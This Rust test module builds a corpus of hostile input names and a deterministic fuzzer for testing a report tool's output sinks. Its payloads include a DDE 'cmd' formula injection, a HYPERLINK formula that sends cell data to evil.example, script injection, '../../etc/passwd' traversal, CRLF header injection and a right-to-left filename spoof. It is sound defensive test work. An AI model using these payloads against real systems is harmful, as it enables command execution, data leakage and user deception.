//! A corpus of names that a hostile or careless user may give an agent, for tests of every sink.

use crate::report::sample::HOSTILE;
use std::time::{Duration, Instant};

const STARTS: [&str; 22] = [
    "",
    "=",
    "+",
    "-",
    "@",
    "\t",
    "\r",
    "\n",
    "\0",
    "＝",
    "＋",
    "－",
    "＠",
    " =",
    "\"=",
    "'=",
    "\u{feff}=",
    "\u{200b}+",
    " \" @",
    "\u{202e}=",
    "\u{a0}-",
    "=\t",
];

const ENDS: [&str; 18] = [
    "cmd|' /C calc'!A0",
    "HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
    "SUM(1,2);3|4",
    "a\r\nSubject: x",
    "a\nb\tc",
    "\"quoted\", \"\"twice\"\"",
    "</script><script>alert(1)</script>",
    "{{job.title}} {% x %} ${x} %s",
    "../../etc/passwd",
    "CON",
    "http://example.com/ mailto:a@b.c",
    "ﺔﻴﺑﺮﻋ \u{202e}gnp.exe",
    "🦀 日本語 e\u{301} \u{1F468}\u{200D}\u{1F469}",
    "_x000D_ _x0041_ &amp; &#0;",
    "123.45",
    "true",
    "  spaces  ",
    "\u{1}\u{b}\u{1f}\u{7f}\u{fffe}",
];

/// About four hundred names, each once.
pub(super) fn names() -> Vec<String> {
    let mut names: Vec<String> = STARTS
        .iter()
        .flat_map(|start| ENDS.iter().map(move |end| format!("{start}{end}")))
        .chain(HOSTILE.map(str::to_owned))
        .collect();
    names.push("x".repeat(40_000));
    names.push("'".into());
    assert!(names.len() >= 300);
    names
}

/// Names that are tried in a sink by every build, and how long in full (`make torture`).
const TRIED: u64 = 150;
const IN_FULL: Duration = Duration::from_mins(10);

/// Tries a sink with names that nobody has thought of: pieces of the corpus and any letters, in any order. The same ones each time.
pub(crate) fn fuzz(check: impl Fn(&str)) {
    let until = std::env::var_os("REPORTWIRE_TORTURE").map(|_| Instant::now() + IN_FULL);
    for number in 0.. {
        let goes_on = until.map_or(number < TRIED, |until| Instant::now() < until);
        if !goes_on {
            break;
        }
        check(&invented(number));
    }
}

fn invented(number: u64) -> String {
    let mut state = number;
    // Any generator does that scatters.
    let mut drawn = |below: usize| {
        state = state
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        usize::try_from(state >> 33).unwrap() % below
    };
    let pieces = 1 + drawn(6);
    let mut name = String::new();
    for _ in 0..pieces {
        match drawn(4) {
            0 => name.push_str(STARTS[drawn(STARTS.len())]),
            1 => name.push_str(ENDS[drawn(ENDS.len())]),
            // ASCII with all that is punctuation or control.
            2 => name.extend((0..=drawn(8)).map(|_| char::from(u8::try_from(drawn(128)).unwrap()))),
            _ => name.extend(
                (0..=drawn(4)).filter_map(|_| char::from_u32(u32::try_from(drawn(0x2_0000)).unwrap())),
            ),
        }
    }
    name
}
